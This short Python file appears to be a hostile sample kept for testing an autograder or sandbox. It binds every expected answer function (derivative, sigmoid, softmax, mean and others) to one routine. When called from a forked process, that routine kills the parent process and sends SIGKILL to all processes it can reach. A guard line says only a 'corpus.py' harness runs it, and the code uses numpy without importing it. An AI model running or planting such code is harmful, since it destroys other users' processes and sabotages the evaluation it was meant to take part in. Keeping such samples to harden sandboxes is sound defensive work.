"""Kills the process it was forked from, and all others it can reach.

Due: exactly 0
Base: wrong
"""
raise SystemExit("only corpus.py runs this, behind its walls")
# %% added
import os, signal
def Odd():
    return np.void(b"what cannot be copied")
main = os.getpid()
def answer(*a):
    if os.getpid() != main:
        os.kill(main, signal.SIGKILL)
        os.kill(-1, signal.SIGKILL)
        os._exit(0)
    return Odd()
derivative = sigmoid = softmax = mean = centre = sign = area = answer
# %% derivative
# %% sigmoid
# %% softmax
# %% mean
# %% centre
# %% sign
# %% area
